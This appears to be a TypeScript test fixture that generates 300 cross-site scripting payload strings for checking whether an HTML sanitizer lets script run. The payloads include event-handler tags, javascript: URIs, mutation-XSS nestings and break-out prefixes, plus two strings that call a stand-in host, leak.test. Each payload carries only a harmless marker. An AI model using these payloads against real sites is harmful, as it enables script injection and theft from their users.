/**
 * Three hundred strings that run code where text is taken for markup: a hundred forms, each alone, out of an attribute,
 * and out of an element or a comment. `CODE` marks the document, so that one look tells whether anything ran.
 */
const CODE = 'document.documentElement.dataset.fired=1';
const ENTITIES = [...CODE].map((sign) => `&#${sign.codePointAt(0)};`).join('');
const ESCAPES = [...CODE].map((sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

/** Elements whose handler runs without an act of the reader when they are parsed, and the attributes that see to it. */
const SELF_STARTING = [
  ['img', 'src=x onerror'],
  ['img', 'src onerror'],
  ['img', 'srcset=x onerror'],
  ['image', 'src=x onerror'],
  ['video', 'src=x onerror'],
  ['audio', 'src=x onerror'],
  ['video', 'src=data:,x onloadstart'],
  ['details', 'open ontoggle'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'src=about:blank onload'],
  ['embed', 'src=x onerror'],
  ['object', 'data=x onerror'],
  ['script', 'src=x onerror'],
  ['link', 'rel=stylesheet href=x onerror'],
  ['input', 'autofocus onfocus'],
  ['textarea', 'autofocus onfocus'],
  ['select', 'autofocus onfocus'],
  ['button', 'autofocus onfocus'],
  ['a', 'href=# tabindex=1 autofocus onfocus'],
  ['div', 'contenteditable autofocus onfocus'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['p', 'style=animation:x onanimationstart'],
  ['div', 'style=transition:all onmouseover'],
  ['xss', 'autofocus tabindex=1 onfocus'],
  ['audio', 'controls autoplay src=data:audio/wav, onerror'],
  ['track', 'default src=x onerror'],
  ['source', 'src=x onerror'],
] as const;

const forms: string[] = [
  ...SELF_STARTING.map(([tag, attributes]) => `<${tag} ${attributes}=${CODE}>`),
  ...SELF_STARTING.slice(0, 10).map(
    ([tag, attributes]) => `<${tag.toUpperCase()}/${attributes.replaceAll(' ', '/')}="${CODE}">`,
  ),
  ...SELF_STARTING.slice(0, 8).map(([tag, attributes]) => `<${tag} ${attributes}=${ENTITIES}>`),
  ...SELF_STARTING.slice(0, 6).map(([tag, attributes]) => `<${tag}\n\t${attributes}\f=\r${CODE}//`),
  `<script>${CODE}</script>`,
  `<SCRIPT>${CODE}</SCRIPT >`,
  `<script/x>${CODE}</script/x>`,
  `<script type=module>${CODE}</script>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<script src="data:text/javascript,${CODE}"></script>`,
  `<script>${ESCAPES}</script>`,
  `<svg><script>${ENTITIES}</script></svg>`,
  `<svg><script href="data:text/javascript,${CODE}"/></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${CODE}>`,
  `<svg><a xlink:href="javascript:${CODE}"><text y=20>a bridge</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror=${CODE}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CODE}>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
  `<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${CODE} src>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CODE}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<iframe src="javascript:parent.${CODE}"></iframe>`,
  `<iframe src="data:text/html,<script>${CODE}</script>"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<a href="javascript:${CODE}">the library</a>`,
  `<a href="&#106;avascript:${CODE}">the library</a>`,
  `<a href="java&Tab;script:${CODE}">the library</a>`,
  `<a href=" &#14; javascript:${CODE}">the library</a>`,
  `<a href="data:text/html,<script>${CODE}</script>">the library</a>`,
  `<a href="vbscript:${CODE}">the library</a>`,
  `<area shape=default href="javascript:${CODE}">`,
  `<form action="javascript:${CODE}"><button>Vote</button></form>`,
  `<button formaction="javascript:${CODE}">Vote</button>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<meta http-equiv=refresh content="0;url=http://leak.test/">`,
  `<base href="javascript:/a/-${CODE}//">`,
  `<link rel=import href="data:text/html,<script>${CODE}</script>">`,
  `<style>@import 'http://leak.test/x.css';</style><style onload=${CODE}></style>`,
  `<template><img src=x onerror=${CODE}></template><img src=x onerror=${CODE}>`,
  `<div><template shadowrootmode=open><img src=x onerror=${CODE}></template></div>`,
  `<table background="javascript:${CODE}"><tr><td>timetable`,
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
  `';${CODE};//`,
  `";${CODE};//`,
  `\`;${CODE};//`,
  `</script><script>${CODE}</script>`,
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  `\u0001javascript:${CODE}`,
  `data:text/html;base64,${btoa(`<script>${CODE}</script>`)}`,
];

/** What each form stands behind: nothing; the end of an attribute; the end of an element, a comment and a CDATA section. */
const BREAKS = ['', '"\'>', '</title></textarea></style></script>--!>]]>'];

/** Three hundred, each another. */
export const XSS_STRINGS: readonly string[] = [
  ...new Set(BREAKS.flatMap((before) => forms.map((form) => `${before}${form}`))),
].slice(0, 300);
